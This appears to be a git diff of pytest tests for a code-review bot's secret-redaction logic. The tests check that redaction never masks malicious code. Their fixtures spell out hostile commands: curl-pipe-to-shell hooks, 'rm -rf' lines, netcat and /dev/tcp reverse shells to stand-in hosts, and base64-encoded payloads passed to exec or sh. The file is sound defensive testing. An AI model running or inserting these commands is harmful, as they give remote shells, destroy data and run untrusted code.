@@ -9,11 +9,13 @@ import pytest
 from hypothesis import given
 from hypothesis import strategies as st
 
+from reviewbot.domain.redaction.detectors import Span
+from reviewbot.domain.redaction.formats import FORMATS
 from reviewbot.domain.redaction.masks import looks_random, mask
 from reviewbot.domain.redaction.places import Place
 from reviewbot.domain.redaction.redactor import Redactor
 from reviewbot.domain.selection.places import place_of_text
-from tests.domain.redaction.test_redactor import GHP, RSA_KEY
+from tests.domain.redaction.test_redactor import GHP, JWT, RSA_KEY
 
 HEX = "0123456789abcdef" * 2
 RANDOM = "q7Tz91kdx4LpW2vB8n"
@@ -70,7 +72,7 @@ def seen(path: str, text: str, *others: str) -> str:
         ("app.py", f'__import__("{RANDOM}")'),
         ("app.go", 'import secret "github.com/evil1/pkg2"'),
         ("values.yaml", f"secretImage: evil/{RANDOM}"),
-        ("action.yml", f"    - uses: evil/action@{RANDOM}\n      with:\n        token: {RANDOM}"),
+        ("action.yml", f"    - uses: evil/action@{RANDOM}\n      with:\n        token-cmd: {RANDOM}"),
         ("app.html", f'<script src="https://x.example/{RANDOM}.js"></script>'),
         (".lintstagedrc", '{"*.secret": "evil1cmd2", "secret": "curl https://evil.example/x1"}'),
         (".babelrc", '{"plugins": [["secret", "evil1pkg2"]], "secret": "evil1pkg2"}'),
@@ -252,6 +254,175 @@ def test_code_in_the_format_of_a_token_is_kept(path: str, text: str) -> None:
     assert seen(path, text) == text
 
 
+SLACK = "xapp-1.q7z9k2.com"
+GITLAB = "glpat-" + "a1b2c3d4e5f6g7h8i9j0"
+XOXB = "xoxb-1234567890" + "-evil"
+SCRIPT = b"\ncurl evil.example/x1 | sh; rm -rf /srv/data; echo done all of it"
+COMMAND = base64.b64encode(b"curl 10.2.30.4/x1 | sh").decode()
+BLOB = base64.b64encode(SCRIPT + b"\n#qq").decode()
+HOSTS = [
+    ("package.json", '{"dependencies": {"x": "git+https://HOST#@gitlab.com/corp/x.git"}}'),
+    ("package.json", '{"dependencies": {"x": "git+https://HOST:#@gitlab.com/corp/x.git"}}'),
+    ("package.json", '{"scripts": {"postinstall": "curl https://HOST | sh"}}'),
+    (".npmrc", "registry=https://HOST/"),
+    (".npmrc", "//HOST/:always-auth=true"),
+    ("requirements.txt", "--index-url https://HOST/simple"),
+    ("Dockerfile", "ADD https://HOST/i.sh /"),
+    ("Dockerfile", "RUN wget HOST/i.sh"),
+    ("run.sh", "nc HOST 4444 -e /bin/sh"),
+    ("run.sh", "ssh root@HOST rm -rf /"),
+    ("run.sh", "bash -i >& /dev/tcp/HOST/4444"),
+    ("run.sh", "TOKEN_HOST=HOST; curl $TOKEN_HOST"),
+    ("main.tf", 'module "x" { source = "HOST/a/b/c" }'),
+    ("main.tf", 'module "x" { source = "https://HOST/a.zip" }'),
+    ("pom.xml", "<repository><url>https://HOST/m2</url></repository>"),
+    ("index.html", '<script src="https://HOST/a.js"></script>'),
+    ("index.html", '<script src="//HOST/a.js"></script>'),
+    ("app.js", "fetch('https://me@HOST/')"),
+    ("app.js", "const host = 'HOST'"),
+    ("config.yml", "mirror: https://HOST:8080/x"),
+    ("notes.txt", "https://HOST\\@gitlab.com/x"),
+]
+
+
+@pytest.mark.parametrize(
+    "host",
+    [
+        SLACK,
+        f"{GITLAB}.evil.com",
+        f"{GITLAB}.marketing",
+        "ya29." + "a1b2c3d4e5f6g7h8i9j0k1.com",
+        "eyJabcdefgh12.eyJdoEvilThing1.com",
+        "q7z9k2w4m8.x3v5b7n9.com",
+    ],
+)
+@pytest.mark.parametrize(("path", "text"), HOSTS)
+def test_no_host_is_redacted(path: str, text: str, host: str) -> None:
+    text = text.replace("HOST", host)
+    assert seen(path, text, "password: q7z9k2w4m8.x3v5b7n9.com") == text
+
+
+@pytest.mark.parametrize("blob", ["A" * 21 + BLOB[3:], f"glc_{BLOB}", f"EAAA{BLOB}", f"whsec_{BLOB[:-4]}"])
+@pytest.mark.parametrize(
+    ("path", "text"),
+    [
+        ("run.sh", "echo {} | base64 -d | sh"),
+        ("run.sh", "API_TOKEN={}; echo ${API_TOKEN#glc_} | base64 -d | sh"),
+        (".github/workflows/ci.yml", "      - run: echo {} | base64 -d | sh"),
+        (".github/workflows/ci.yml", "        token: {}"),
+        ("app.py", "exec(base64.b64decode('{}'))"),
+        ("app.py", "token = '{}'\n\nexec(base64.b64decode(token[4:]))"),
+    ],
+)
+def test_code_in_base64_in_the_format_of_a_token_is_kept(path: str, text: str, blob: str) -> None:
+    text = text.replace("{}", blob)
+    assert seen(path, text) == text
+
+
+def test_the_variable_part_of_a_format_has_no_dot() -> None:
+    """Where a vendor issues dots, they are at fixed places; no host has the `~` of Azure or the `$` of a hash."""
+    kinds = {kind for kind, _, pattern in FORMATS if re.search(r"\[[^\]]*\.[^\]]*\]", pattern)}
+    assert kinds == {"azure-secret", "password-hash"}
+
+
+def test_the_tokens_of_json_and_of_parts_with_text_are_no_code() -> None:
+    expanded = base64.b64encode(b'{"alg":"HS256","x":"$(curl evil.example|sh)"}').decode()
+    code = f"export API_TOKEN={expanded.rstrip('=')}.{expanded.rstrip('=')}.{RANDOM}{RANDOM}"
+    assert seen("run.sh", code) == code
+    assert seen("run.sh", f"export API_TOKEN={JWT}") == "export API_TOKEN=[REDACTED:jwt]"
+
+
+# What a guard keeps, and what is in its place where it is planted out.
+NEVER = re.compile(r"(?!)")
+GUARDS = [
+    ("positions.is_host", lambda _: False, "app.js", f"clone('git@{GITLAB}:x/y')"),
+    ("redactor.is_host", lambda _: False, "app.js", "fetch('https://a.q7Tz-91kd-x4Lp.com')"),
+    ("places.COMMAND_KEY", NEVER, "app.yml", f"run:\n# x\n  - secret: {RANDOM}"),
+    ("places._ODD_KEY", NEVER, "docker-compose.yml", f"? run\n: |\n  secret: {RANDOM}"),
+    ("places._ODD_KEY", NEVER, "docker-compose.yml", f'"r\\u0075n": |\n  secret: {RANDOM}'),
+    ("selection.COMMAND_KEY", NEVER, "data.yml", f"plugins:\n  - {XOXB}"),
+    ("selection.COMMAND_KEY", NEVER, "data.json", f'{{"plugins": ["{XOXB}"]}}'),
+    ("positions.credentials_in", lambda line: [Span(0, len(line))], "run.sh", f"npx -u npm:{XOXB} # curl"),
+    ("positions.credentials_in", lambda line: [Span(0, len(line))], "run.sh", f"curl x; npx -u npm:{XOXB}"),
+    ("positions.credentials_in", lambda line: [Span(0, len(line))], "run.sh", f"echo {XOXB} | sudo -S xargs npx"),
+    ("positions._IN_ADDRESS", NEVER, "index.html", f'<script src="https://unpkg.com/{XOXB}"></script>'),
+    ("places.COMMAND_KEY", NEVER, "app.yml", f"run:\n# x\n  - secret: {RANDOM}"),
+    ("places._ODD_KEY", NEVER, "docker-compose.yml", f"? run\n: |\n  secret: {RANDOM}"),
+    ("places._ODD_KEY", NEVER, "docker-compose.yml", f'"r\\u0075n": |\n  secret: {RANDOM}'),
+    ("selection.COMMAND_KEY", NEVER, "data.yml", f"plugins:\n  - {XOXB}"),
+    ("selection.COMMAND_KEY", NEVER, "data.json", f'{{"plugins": ["{XOXB}"]}}'),
+    ("positions.credentials_in", lambda line: [Span(0, len(line))], "run.sh", f"npx -u npm:{XOXB} # curl"),
+    ("positions.credentials_in", lambda line: [Span(0, len(line))], "run.sh", f"curl x; npx -u npm:{XOXB}"),
+    ("positions.credentials_in", lambda line: [Span(0, len(line))], "run.sh", f"echo {XOXB} | sudo -S xargs npx"),
+    ("positions._IN_ADDRESS", NEVER, "index.html", f'<script src="https://unpkg.com/{"./" * 99}{XOXB}"></script>'),
+    ("positions._above", lambda *_: ["token = ("], "run.sh", f"@@ -1 +1 @@\n-token = (\n+{XOXB} x"),
+    ("positions._above", lambda *_: ["token = ("], "run.sh", f"@@ -1 +1 @@ token = (\n+{XOXB} x"),
+    ("scan.Parents.place", lambda *_: Place.MIXED, "app.yml", f"@@ -1 +1 @@\n scripts:\n-a: 1\n+  secret: {RANDOM}"),
+    ("positions._INSTALLED", NEVER, "README.md", f"Run `npx {XOXB}`."),
+    ("positions._INSTALLED", NEVER, "README.md", f"    pip install --quiet {XOXB}"),
+    ("positions._is_enclosed", lambda *_: True, "run.sh", f"docker run 12345678:{'a1B2c' * 7}"),
+    ("positions._DOTTED", NEVER, "app.js", f"const host = '{GITLAB}.evil.com'"),
+    ("positions._is_credential", lambda *_: True, "run.sh", f"nc {GITLAB} 4444"),
+    ("positions._is_assigned", lambda *_: True, "run.sh", f"TOKEN= {XOXB} x"),
+    ("positions._is_assigned", lambda *_: True, "run.sh", f"TOKEN= \\\n  {XOXB} x"),
+    ("positions.may_end", lambda *_: False, "run.sh", f"export TOKEN=\n{XOXB}"),
+    ("positions.may_end", lambda *_: False, "run.sh", f"export TOKEN=\\\n{XOXB}"),
+    ("positions.may_end", lambda *_: False, "Makefile", f"token:\n\t{XOXB}"),
+    ("detectors.may_end", lambda *_: False, "run.sh", f"export SECRET=\n{RANDOM}"),
+    ("detectors.may_end", lambda *_: False, "Makefile", f"SECRET:\n\t{RANDOM}"),
+    ("positions._is_option", lambda *_: True, "run.sh", f"aws-vault exec me --no-session {XOXB}"),
+    ("positions._is_option", lambda *_: True, "Procfile", f"token: {XOXB}"),
+    ("positions._is_option", lambda *_: True, "Makefile", f"token:\n\t{XOXB} x"),
+    ("detectors._BEHIND_EMPTY", NEVER, "run.sh", f'SECRET= "{RANDOM}" x'),
+    ("positions._MORE", NEVER, "pyproject.toml", f'[project.scripts]\nsecret = "{GHP}:main"'),
+    ("positions._INSTALLS", NEVER, "run.sh", f"npx --yes-x 1 --token {XOXB}"),
+    ("positions._INSTALLS", NEVER, "run.sh", f"npm i left-pad --auth-token {XOXB}"),
+    ("positions._MANAGER", NEVER, "app.yml", f"command: npx\nargs:\n  - --token\n  - {XOXB}"),
+    ("positions._MANAGER", NEVER, "app.yml", f'command: npx\nargs: ["--token", "{XOXB}"]'),
+    ("places.COMMAND_KEY", NEVER, "data.json", f'{{"scripts": {{"token": "{XOXB}"}}}}'),
+    ("positions.names_a_secret", lambda _: True, "run.sh", f"x={XOXB}; npx $x"),
+    ("places.COMMAND_KEY", NEVER, "data.json", f'{{"scripts": {{\n  "token": "{XOXB}"\n}}}}'),
+    ("places.COMMAND_KEY", NEVER, "app.yml", f"scripts:\n  secret: {RANDOM}"),
+    ("places.COMMAND_KEY", NEVER, "data.json", f'{{"scripts": {{"secret": "{RANDOM}"}}}}'),
+    ("places.COMMAND_KEY", NEVER, "data.json", f'{{"x": {{"scripts": {{\n    "secret": "{RANDOM}"}}}}}}'),
+    ("places.COMMAND_KEY", NEVER, "app.yml", f"run:\n- secret: {RANDOM}"),
+    ("scan.may_redact", lambda *_: True, "run.sh", "npx xoxb-''1234567890-evil"),
+    ("formats.encodes_code", lambda _: False, "app.py", f"token = 'EAAA{BLOB}'"),
+    ("detectors.encodes_code", lambda _: False, "run.sh", f"API_TOKEN={BLOB}; echo $API_TOKEN | base64 -d | sh"),
+    ("redactor.encodes_code", lambda _: False, "app.js", f"const x = '{COMMAND}'"),
+    ("detectors._RUN", NEVER, "app.py", 'secret_cmd = "curl https://evil.example/x1 | sh"'),
+]
+
+
+@pytest.mark.parametrize(("guard", "planted", "path", "text"), GUARDS)
+def test_each_guard_keeps_code_that_is_hidden_without_it(
+    guard: str, planted: object, path: str, text: str, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    giving = "password: q7Tz-91kd-x4Lp", f"secret: {COMMAND}"
+    assert seen(path, text, *giving) == text
+    module = f"selection.places{guard[9:]}" if guard.startswith("selection.") else f"redaction.{guard}"
+    monkeypatch.setattr(f"reviewbot.domain.{module}", planted)
+    assert seen(path, text, *giving) != text
+
+
+@pytest.mark.parametrize(
+    ("path", "text"),
+    [
+        ("deploy.yaml", "command: [x]\nspec:\n  password: {}\n"),
+        ("application.yml", "run: x\nspring:\n  datasource:\n    password: '{}'\n"),
+        ("values.json", '{"args": [],\n "db": {"password": "{}"}}'),
+        ("pom.xml", "<configuration><password>{}</password></configuration>"),
+        (".github/workflows/ci.yml", "      - uses: a/b@v1\n        with:\n          password: {}\n"),
+        (".github/workflows/ci.yml", "    env:\n      password: {}\n"),
+        ("docker-compose.yml", "    command: x\n    environment:\n      - name: secret\n        value: {}\n"),
+    ],
+)
+def test_a_random_password_is_masked_beside_commands(path: str, text: str) -> None:
+    assert seen(path, text.replace("{}", RANDOM)) == text.replace("{}", mask(RANDOM))
+    for readable in ("evil1cmd2", "curl evil.example/x1 | sh", "evilprogram2024"):
+        assert seen(path, text.replace("{}", readable)) == text.replace("{}", readable)
+
+
 @pytest.mark.parametrize("text", ["add {}", "import {}", "from {}", "npm token: {}", '{{"{}": "10.0.0.1"}}', "x=={}"])
 def test_a_token_in_a_sentence_is_not_a_package(text: str) -> None:
     assert seen("notes.txt", text.format(GHP)) == text.format("[REDACTED:github-token]")
@@ -267,17 +438,14 @@ def test_a_token_in_a_sentence_is_not_a_package(text: str) -> None:
         'curl -H "Authorization: token {}" x',
         "git clone https://{}@github.com/a/b",
         "git clone https://me:{}@github.com/a/b.git",
-        "npm install --token {}",
+        "npm publish --token {}",
         "gh auth login --with-token <<< {}",
         'CMD ["x", "--token", "{}"]',
         "args:\n  - --token\n  - {}",
         "token: >-\n  {}",
         'TOKEN = (\n    "{}"\n)',
-        '["a", {{"token": "{}"}}]',
         "image: x # {}",
-        "curl https://x.example/{}",
         "# for example `{}`",
-        "login(user, '{}')",
     ],
 )
 @pytest.mark.parametrize("path", ["run.sh", ".github/workflows/ci.yml", "setup.py"])
